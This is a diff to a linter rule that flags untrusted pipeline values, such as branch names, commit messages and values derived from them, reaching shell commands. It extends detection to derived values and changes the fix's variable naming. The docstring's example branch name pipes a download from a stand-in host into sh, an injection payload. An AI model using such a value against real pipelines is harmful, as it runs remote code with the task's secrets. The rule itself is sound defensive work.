@@ -1,9 +1,10 @@
 r"""A name that others choose is put into a shell's text.
 
 Variables are replaced before the shell reads its text. A branch may be called `$(curl evil.example|sh)`, and a comment
-may say anything: put into `sh -c` or `script`, it runs, with the secrets of the task at hand. In an environment variable it
-stays a string. The fix adds one and lets the shell read it. Where only tags, times, or branches that the patterns name in
-full run the task, there is no finding.
+may say anything: put into `sh -c` or `script`, it runs, with the secrets of the task at hand. The same goes for what holds
+such a name: the `url` of an image that is tagged with the branch, the output of a step that prints it. In an environment
+variable it stays a string. The fix adds one and lets the shell read it. Where only tags, times, or branches that the
+patterns name in full run the task, there is no finding.
 
 ```cue bad
 resource: src: {type: "git", param: {url: "$(context.git.url)", revision: "$(context.git.commit)"}}
@@ -40,7 +41,7 @@ from dispatchfile.source import Span
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
-    from collections.abc import Iterator
+    from collections.abc import Iterator, Mapping
 
     from dispatchfile.diagnostics import Diagnostic
     from dispatchfile.lint.rule import Subject
@@ -73,20 +74,26 @@ def check(subject: Subject) -> Iterator[Diagnostic]:
     if pipeline is None:
         return
     from dispatchfile.lint import shell
+    from dispatchfile.lint.chosen import chosen
     from dispatchfile.lint.usage import events
 
+    holding = chosen(pipeline)
     seen = set()
     for task in pipeline.tasks.values():
+        words = events(subject)[task.name] or ("unknown",)
+        known = {
+            name: origin
+            for name, held in holding[task.name].items()
+            if (origin := next((one for one in held if not _CHOSEN[one][0].isdisjoint(words)), None))
+        }
         for index, step in enumerate(task.steps):
             for value, field in shell.texts(step):
-                for name, start, place, certain in _uses(value):
-                    givers, who = _CHOSEN[name]
-                    words = events(subject)[task.name] or ("unknown",)
-                    if givers.isdisjoint(words) or (place, start if not certain else 0) in seen:
+                for name, start, place, certain in _uses(value, known):
+                    if (place, start if not certain else 0) in seen:
                         continue
                     seen.add((place, start if not certain else 0))
                     yield RULE.finding(
-                        f"$({name}) becomes part of what the shell runs, and {who} chooses it",
+                        f"$({name}) becomes part of what the shell runs, and {_who(name, known[name])}",
                         place,
                         "read by the shell",
                         help="put it into a variable of `env`, and write that in double quotes",
@@ -95,15 +102,22 @@ def check(subject: Subject) -> Iterator[Diagnostic]:
                     )
 
 
-def _uses(value: Value) -> Iterator[tuple[str, int, Span | None, bool]]:
-    """Yield each variable of others' choice in a text: its name, its offset, its place, and whether that is exact."""
+def _who(name: str, origin: str) -> str:
+    """Return who chooses the value of a variable, which is one of the context or holds one."""
+    who = _CHOSEN[origin][1]
+    return f"{who} chooses it" if name == origin else f"holds $({origin}), which {who} chooses"
+
+
+def _uses(value: Value, known: Mapping[str, str]) -> Iterator[tuple[str, int, Span | None, bool]]:
+    """Yield each known variable in a text: its name, its offset, its place, and whether that is exact."""
     from dispatchfile.lint.places import home
     from dispatchfile.model.variables import find
 
-    chosen = [variable for variable in find(str(value.data)) if variable.name in _CHOSEN]
-    for name in dict.fromkeys(variable.name for variable in chosen):
-        offsets = [variable.start for variable in chosen if variable.name == name]
-        written = f"$({name})"
+    text = str(value.data)
+    found = [variable for variable in find(text) if variable.name in known]
+    for written in dict.fromkeys(text[variable.start : variable.end] for variable in found):
+        same = [variable for variable in found if text[variable.start : variable.end] == written]
+        name, offsets = same[0].name, [variable.start for variable in same]
         span = home(value, written)
         places = span.text.split(written)[:-1] if span is not None else []
         at = span.start if span is not None else 0
@@ -127,7 +141,8 @@ def _fix(step: Step, value: Value, name: str, start: int, place: Span | None) ->
     variable = next((one.name for one in step.env if one.value == f"$({name})"), "")
     added: tuple[Edit, ...] = ()
     if not variable:
-        variable = name.removeprefix("context.").replace(".", "_").upper()
+        words = "_".join(name.split(".")[-2:])
+        variable = "".join(char if char.isascii() and char.isalnum() else "_" for char in words).upper()
         added = _declared(step, variable, name)
         if not added or any(one.name == variable for one in step.env):
             return None
